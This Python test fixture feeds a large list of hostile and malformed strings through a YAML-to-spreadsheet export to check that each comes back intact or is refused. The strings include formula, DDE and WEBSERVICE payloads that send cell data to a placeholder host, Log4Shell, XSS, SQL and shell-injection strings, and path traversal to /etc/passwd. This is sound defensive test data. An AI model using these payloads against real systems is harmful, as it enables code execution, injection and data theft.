"""Texts that users, or those who wish them ill, may type: each goes through a
dossier and comes back from the workbook as it was, or is refused at its line.

No list of anybody's: written for what spreadsheets, XML and YAML do to texts.
"""
import shutil

FORMULAS = [
    '=HYPERLINK("http://x.invalid";"clic")', '=HYPERLINK("http://x","a")',
    "=1+1", "=cmd|' /C calc'!A0", "+1+cmd|'/c'!A1", "-2+3", "@SUM(A1:A9)",
    "=SUM(A1:A9)", "=SOMME(A1;A2)", "==1", "= 1", "\t=1+1", "\n=1+1",
    '=IMPORTXML("http://x","//a")', '=WEBSERVICE("http://x/"&A1)',
    "=DDE(\"a\";\"b\";\"c\")", "=A1", "=#REF!", "#REF!", "#N/A", "#DIV/0!",
    "{=SUM(1)}", "=EXEC(\"ls\")", "=CALL(\"a\")", "'=1+1", "’=1+1", "%=1",
    "=rand()", "=NOW()", "=[1]Autre!A1", "='C:\\a\\[b.xls]c'!A1",
]
NUMBERS = [
    "0", "007", "0001", "1E5", "1e400", "-0", "1,5", "1.5", "1 000", "½",
    "12/05", "2026-02-30", "1/0", "NaN", "INF", "-Infinity", "0x10", "TRUE",
    "oui", "non", "null", "~", "VRAI", "12345678901234567890",
    "20005379100014", "2E+13", "+33 4 99 00 00 00", "١٢٣", "１２３",
]
MARKUP = [
    "<b>gras</b>", "<script>alert(1)</script>", "</t></si></sst>", "]]>",
    "<![CDATA[a]]>", "&amp;", "&lt;", "&#65;", "&nbsp;", "&", "a & b",
    "<!-- a -->", "<?xml version=\"1.0\"?>", "<!DOCTYPE a>", "&xxe;",
    "%s%s%n", "${jndi:ldap://x}", "{{7*7}}", "$(ls)", "`ls`", "'; DROP TABLE a",
    "\"", "''", "\"\"", "«\u00a0a\u00a0»", "\\", "\\n", "\\u0041", "\\\\",
    "C:\\temp\\nul", "../../etc/passwd", "file:///etc/passwd",
    "javascript:alert(1)", "https://x.fr/?q=internal:a", "mailto:a@b.c",
    "_x0041_", "_x005F_x0041_", "a_x000D_b", "_xD83D_", "__x0041__",
    "_X0041_", "_x004_", "&P", "&L&C&R", "&\"Arial\"", "*a*", "**a**", "[a](b)",
    "![a](b)", "# titre", "a|b", "~~a~~", "<a@b.c>", "^a^", "$a$",
]
LETTERS = [
    "é", "e\u0301", "ﬁ", "ŒUVRE", "ß", "İstanbul", "ı", "ﷺ", "Ω≈ç√∫",
    "العربية", "עברית", "\u202eetxet\u202c", "\u200fabc\u200e",
    "\u2066a\u2069", "日本語", "한국어", "ไทย", "हिन्दी", "𝔘𝔫𝔦", "𐍈",
    "😀", "👩‍👩‍👧‍👦", "🇫🇷", "👍🏽", "a\u0300\u0301\u0302\u0303\u0304",
    "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢", "\u200b", "a\u200bb", "\u00ad", "a\u00adb",
    "\ufeffa", "a\ufeff", "\u2028", "a\u2029b", "\u00a0", "a\u00a0b",
    "\u202f", "\u3000", "\ufffd", "\ufffe", "\uffff", "\U0001fffe", "\ue000",
    "\U0010ffff", "\u0085", "a\u0085b", "\u0080", "\u009f", "\x7f", "\x00",
    "a\x00b", "\x01", "\x02", "\x08", "\x0b", "\x0c", "\x1b[31m", "\x1f",
    "\r", "a\rb", "a\r\nb", "a\nb", "a\tb", " a", "a ", "  ", "", " ",
    "a  b", "\ud83d", "History", "Historique", "con", "'", "''a''", "a'",
    "a:b", "a: b", "- a", "? a", "! a", "| a", "> a", "* a", "& a", "# a",
    "a #b", "[a]", "{a}", "{campus.sigle}", "{a", "a}", "%a", "@a", "`a",
]
LONG = ["a" * 255, "a" * 256, "é" * 1000, "😀" * 2000, "a" * 32767,
        "a" * 32768, "a" * 40000, "é" * 40000, "=" * 9000, "a\n" * 500,
        "_x0041_" * 3000, "_x0041_" * 6000, "&" * 5000, '"' * 5000]

STRINGS = FORMULAS + NUMBERS + MARKUP + LETTERS + LONG


def quoted(text):
    """In double quotes as YAML reads them."""
    out = []
    for c in text:
        n = ord(c)
        if c in '"\\':
            out.append("\\" + c)
        elif 0x20 <= n < 0x7f or 0xa1 <= n < 0xd800 and n not in (
                0xad, 0x2028, 0x2029):
            out.append(c)
        elif n > 0xffff:
            out.append(f"\\U{n:08X}")
        else:
            out.append(f"\\u{n:04X}")
    return '"' + "".join(out) + '"'


def write_dossier(base, folder, texts):
    """A copy of a small dossier with one partner more for each text; gives the
    line of each."""
    shutil.copytree(base, folder, ignore=shutil.ignore_patterns("sortie"))
    path = folder / "partenaires.yaml"
    lines = path.read_text(encoding="utf-8").splitlines()
    at = next(i for i, line in enumerate(lines)
              if line.startswith("partenaires:")) + 1
    new, places = [], []
    for i, text in enumerate(texts):
        places.append(at + len(new) + 2)
        new += [f"  - id: n{i:03d}", f"    nom: {quoted(text)}",
                "    categorie: economique", "    nature: entreprise"]
    lines[at:at] = new
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return places


def kept(text):
    """A value is what stands between its blanks."""
    return text.strip(" \t\r\n")
